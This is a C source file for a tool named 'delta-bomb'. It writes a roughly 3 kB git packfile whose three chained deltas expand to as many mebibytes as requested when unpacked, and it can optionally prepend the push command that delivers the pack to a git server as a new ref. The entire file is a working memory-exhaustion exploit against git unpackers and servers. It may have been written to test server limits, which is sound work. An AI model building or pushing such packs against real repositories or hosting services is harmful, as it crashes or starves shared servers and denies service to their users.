/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * A pack of 3 kB whose last object fills as many MiB as are asked for in the memory of the
 * program that unpacks it (gitformat-pack(5): a blob, and three deltas, each of which
 * copies the previous object over and over).
 *
 *   delta-bomb MIB pack              the pack
 *   delta-bomb MIB push NEW REF      what a client sends to create REF at NEW with this pack
 */

#include <openssl/evp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "buf.h"

enum { OBJ_BLOB = 3, OBJ_OFS_DELTA = 6, BASE = 1024, PIECE_MIB = 8 };

/* Writes data as a zlib stream with one stored block (RFC 1950, RFC 1951). */
static void put_zlib(struct buf *out, const struct buf *data)
{
	size_t n = buf_len(data);
	unsigned a = 1, b = 0;
	unsigned char head[] = { 0x78, 0x01, 0x01, n & 0xff, n >> 8, ~n & 0xff, (~n >> 8) & 0xff };

	for (size_t i = 0; i < n; i++) {
		a = (a + (unsigned char)buf_data(data)[i]) % 65521;
		b = (b + a) % 65521;
	}
	buf_append(out, head, sizeof(head));
	buf_append(out, buf_data(data), n);
	buf_append(out, (unsigned char[]){ b >> 8, b & 0xff, a >> 8, a & 0xff }, 4);
}

static void put_byte(struct buf *out, unsigned byte)
{
	buf_append(out, &(unsigned char){ byte }, 1);
}

static void put_size(struct buf *out, size_t size)
{
	for (; size >= 0x80; size >>= 7)
		put_byte(out, 0x80 | (size & 0x7f));
	put_byte(out, size);
}

static void put_type_and_size(struct buf *out, unsigned type, size_t size)
{
	put_byte(out, (size >> 4 ? 0x80 : 0) | type << 4 | (size & 0xf));
	if (size >> 4)
		put_size(out, size >> 4);
}

/*
 * A delta that copies the first `piece` bytes of its base `times` times. The length of a
 * piece fits in three bytes. Returns the size of the result.
 */
static size_t put_delta(struct buf *out, size_t distance, size_t base, size_t piece, size_t times)
{
	struct buf delta = { 0 };

	put_size(&delta, base);
	put_size(&delta, piece * times);
	for (size_t i = 0; i < times; i++) {
		put_byte(&delta, 0x80 | 0x10 | 0x20 | 0x40);
		put_byte(&delta, piece & 0xff);
		put_byte(&delta, piece >> 8 & 0xff);
		put_byte(&delta, piece >> 16 & 0xff);
	}
	put_type_and_size(out, OBJ_OFS_DELTA, buf_len(&delta));
	if (distance >= 0x80)
		put_byte(out, 0x80 | ((distance >> 7) - 1));
	put_byte(out, distance & 0x7f);
	put_zlib(out, &delta);
	buf_finish(&delta);
	return piece * times;
}

static void put_pack(struct buf *out, size_t mib)
{
	static const char zeros[BASE];
	struct buf base = { 0 };
	size_t start = buf_len(out), at, size = BASE;
	unsigned char hash[20];

	buf_append(out, "PACK\0\0\0\2\0\0\0\4", 12);
	at = buf_len(out);
	buf_append(&base, zeros, BASE);
	put_type_and_size(out, OBJ_BLOB, BASE);
	put_zlib(out, &base);
	buf_finish(&base);
	for (unsigned i = 0; i < 3; i++) {
		size_t here = buf_len(out), piece = i < 2 ? size : (size_t)PIECE_MIB << 20;

		size = put_delta(out, here - at, size, piece, i < 2 ? 256 : mib / PIECE_MIB);
		at = here;
	}
	EVP_Digest(buf_data(out) + start, buf_len(out) - start, hash, NULL, EVP_sha1(), NULL);
	buf_append(out, hash, sizeof(hash));
}

static void put_command(struct buf *out, const char *new, const char *ref)
{
	static const char none[] = "0000000000000000000000000000000000000000";
	static const char wants[] = " report-status side-band-64k";
	size_t n = 4 + strlen(none) + 1 + strlen(new) + 1 + strlen(ref) + 1 + strlen(wants);

	buf_printf(out, "%04zx%s %s %s", n, none, new, ref);
	put_byte(out, 0);
	buf_puts(out, wants);
	buf_puts(out, "0000");
}

int main(int argc, char **argv)
{
	struct buf out = { 0 };
	size_t mib = argc > 2 ? strtoul(argv[1], NULL, 10) : 0;

	if (mib < PIECE_MIB || !(argc == 3 || argc == 5)) {
		fprintf(stderr, "usage: delta-bomb MIB pack | delta-bomb MIB push NEW REF\n");
		return 2;
	}
	if (argc == 5)
		put_command(&out, argv[3], argv[4]);
	put_pack(&out, mib);
	fwrite(buf_data(&out), 1, buf_len(&out), stdout);
	buf_finish(&out);
	return 0;
}
